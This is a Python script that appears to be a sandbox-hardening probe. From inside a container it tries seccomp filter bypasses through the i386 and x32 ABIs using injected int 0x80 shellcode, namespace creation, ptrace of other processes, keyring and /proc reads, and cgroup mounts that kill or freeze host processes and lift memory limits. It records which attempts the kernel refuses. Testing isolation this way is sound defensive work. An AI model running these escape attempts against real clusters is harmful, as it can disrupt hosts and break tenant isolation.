"""What a hostile container asks of the kernel: calls, other ABIs, cgroups, keyrings.

Run inside of a pod; standard library only. Given what to aim at as JSON, or as @FILE with that,
it prints as JSON what came of each way, by its name. Each is tried in a process of its own.
"""

import ctypes
import errno
import json
import mmap
import os
import signal
import sys
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from pathlib import Path
from typing import Any

Way = tuple[str, Callable[[], object]]

_LIBC = ctypes.CDLL(None, use_errno=True)
_LIBC.syscall.restype = ctypes.c_long
_NAMESPACES = {
    "mount": 0x00020000,
    "cgroup": 0x02000000,
    "uts": 0x04000000,
    "ipc": 0x08000000,
    "user": 0x10000000,
    "pid": 0x20000000,
    "network": 0x40000000,
}
_ALL_OF_THE_ATTACK = _NAMESPACES["user"] | _NAMESPACES["mount"] | _NAMESPACES["cgroup"]
_MINE = "/tmp/mounted"  # noqa: S108 - the sandbox's own
_X32 = 0x40000000
_I386 = {"getpid": 20, "mount": 21, "keyctl": 288, "unshare": 310, "setns": 346, "bpf": 357}
_KEYRINGS = {"session": -3, "user": -4, "user session": -5}
_KEY_SEARCH, _KEY_READ = 10, 11
_REFUSED_BY_A_FILTER = (errno.EPERM, errno.ENOSYS)


def call(number: int, *arguments: int | bytes | None) -> int:
    """A call by its number; raises what the kernel says."""
    words = (ctypes.c_long(word) if isinstance(word, int) else word for word in arguments)
    result = int(_LIBC.syscall(ctypes.c_long(number), *words))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def with_nonsense(number: int) -> str:
    """Only a filter refuses nonsense for want of permission; the kernel has other words."""
    try:
        call(number, *(-1,) * 6)
    except OSError as error:
        if error.errno in _REFUSED_BY_A_FILTER:
            raise
        return f"reached the kernel: {error.strerror}"
    return "returned"


def clone(number: int, flags: int) -> None:
    if call(number, flags | signal.SIGCHLD, 0, 0, 0, 0) == 0:
        os._exit(0)


def traced(number: int, request: int) -> None:
    """Take hold of another process, which did not ask for it."""
    other = os.fork()
    if other == 0:
        signal.pause()
    try:
        call(number, request, other, 0, 0)
    finally:
        os.kill(other, signal.SIGKILL)


def as_i386(number: int, argument: int) -> int:
    """push rbx; mov eax, number; mov ebx, argument; int 0x80; pop rbx; ret"""
    code = b"\x53\xb8%b\xbb%b\xcd\x80\x5b\xc3" % (
        number.to_bytes(4, "little"),
        argument.to_bytes(4, "little"),
    )
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    at = ctypes.addressof(ctypes.c_char.from_buffer(page))
    result = int(ctypes.CFUNCTYPE(ctypes.c_int)(at)())
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return result


def mounted(numbers: dict[str, int], kind: bytes, options: bytes | None) -> list[str]:
    """What a hierarchy of cgroups shows, mounted in namespaces of our own if that goes."""
    with suppress(OSError):  # then without: root may have been left the right
        call(numbers["unshare"], _ALL_OF_THE_ATTACK)
    os.makedirs(_MINE, exist_ok=True)  # noqa: PTH103 - of the standard library, the least
    call(numbers["mount"], b"none", _MINE.encode(), kind, 0, options)
    return os.listdir(_MINE)  # noqa: PTH208 - names will do


def in_mounted(
    numbers: dict[str, int], hierarchy: tuple[bytes, bytes | None], file: str, text: str
) -> int:
    mounted(numbers, *hierarchy)
    return Path(_MINE, file).write_text(text)


def raised(numbers: dict[str, int]) -> list[str]:
    """Every limit of memory that can be lifted, in a hierarchy of our own or in the host's."""
    mounted(numbers, b"cgroup", b"memory")
    return [str(path) for path in Path(_MINE).rglob("memory.limit_in_bytes") if _lifted(path)]


def _lifted(path: Path) -> bool:
    for name in ("memory.memsw.limit_in_bytes", "memory.limit_in_bytes"):
        path.with_name(name).write_text("-1")
    return True


def on_calls(aim: dict[str, Any]) -> Iterator[Way]:
    numbers = aim["numbers"]
    for name in aim["denied"]:
        yield f"call: {name}", partial(with_nonsense, numbers[name])
    for name, flag in _NAMESPACES.items():
        yield f"namespace by clone: {name}", partial(clone, numbers["clone"], flag)
        yield f"namespace by unshare: {name}", partial(call, numbers["unshare"], flag)
    both = partial(clone, numbers["clone"], _ALL_OF_THE_ATTACK)
    yield "namespace by clone: user, mount, cgroup", both
    for name, family in {"AF_ALG": 38, "AF_VSOCK": 40}.items():
        for high in (0, 1 << 32):
            yield (
                f"socket: {name}{' + 2^32' if high else ''}",
                partial(call, numbers["socket"], high | family, 5, 0),
            )
    yield "personality: no random addresses", partial(call, numbers["personality"], 0x0040000)
    for name, request in {"attach": 16, "seize": 0x4206}.items():
        yield f"trace another: {name}", partial(traced, numbers["ptrace"], request)


def on_abis(aim: dict[str, Any]) -> Iterator[Way]:
    if os.uname().machine != "x86_64":
        return
    for name, number in _I386.items():
        yield f"as i386: {name}", partial(as_i386, number, _NAMESPACES["user"])
    for name in ("getpid", "unshare", "mount", "keyctl", "setns", "bpf"):
        number = _X32 | aim["numbers"][name]
        yield f"as x32: {name}", partial(call, number, _NAMESPACES["user"])


def on_keyrings(aim: dict[str, Any]) -> Iterator[Way]:
    numbers, key = aim["numbers"], aim["key"].encode()
    for name, ring in _KEYRINGS.items():
        yield f"keyring: read {name}", partial(call, numbers["keyctl"], _KEY_READ, ring, 0, 0)
        yield (
            f"keyring: find a key in {name}",
            partial(call, numbers["keyctl"], _KEY_SEARCH, ring, b"user", key, 0),
        )
    yield "keyring: ask for a key", partial(call, numbers["request_key"], b"user", key, None, -4)
    yield "keyring: add a key", partial(call, numbers["add_key"], b"user", b"x", b"x", 1, -4)


def on_proc(_: dict[str, Any]) -> Iterator[Way]:
    for name in ("keys", "kcore", "timer_list", "latency_stats"):
        yield f"proc: read {name}", partial(read, f"/proc/{name}")


def read(path: str) -> str:
    with Path(path).open("rb") as file:
        if not (start := file.read(100)):
            raise PermissionError("there is nothing to be seen")
    return start.decode(errors="replace")


def on_cgroups(aim: dict[str, Any]) -> Iterator[Way]:
    numbers, victim = aim["numbers"], aim["cgroup"]
    second, freezer = (b"cgroup2", None), (b"cgroup", b"freezer")
    for name, kind, options in (
        ("cgroup2", *second),
        *((name, b"cgroup", name.encode()) for name in ("freezer", "memory", "cpu", "devices")),
    ):
        yield f"cgroups: mount {name}", partial(mounted, numbers, kind, options)
    for name, hierarchy, file, text in (
        ("kill a process of the host", second, f"{victim}/cgroup.kill", "1"),
        ("freeze a process of the host", second, f"{victim}/cgroup.freeze", "1"),
        ("freeze one by version 1", freezer, f"{victim}/freezer.state", "FROZEN"),
    ):
        yield f"cgroups: {name}", partial(in_mounted, numbers, hierarchy, file, text)
    yield "cgroups: raise limits", partial(raised, numbers)
    for name, path in aim["files"].items():
        yield f"cgroups: write {name}", partial(Path(path).write_text, "1")


SECTIONS = {
    "calls": on_calls,
    "abis": on_abis,
    "keyrings": on_keyrings,
    "proc": on_proc,
    "cgroups": on_cgroups,
}


def outcome(way: Callable[[], object]) -> str:
    """What came of a way, tried in a child: it may change, or be killed."""
    heard, said = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(said, f"done: {way()}".encode()[:1000])
        except OSError as error:
            os.write(said, f"refused: {error}".encode())
        finally:
            os._exit(0)
    os.close(said)
    with os.fdopen(heard) as file:
        text = file.read()
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if text:
        return text
    return f"refused: killed by {signal.Signals(-code).name}" if code < 0 else "done: no word"


def main() -> None:
    given = sys.argv[1]
    aim = json.loads(Path(given[1:]).read_text() if given.startswith("@") else given)
    came = {
        name: outcome(way) for section in aim["sections"] for name, way in SECTIONS[section](aim)
    }
    print(json.dumps(came), flush=True)  # noqa: T201 - that is what it is for


if __name__ == "__main__":
    main()
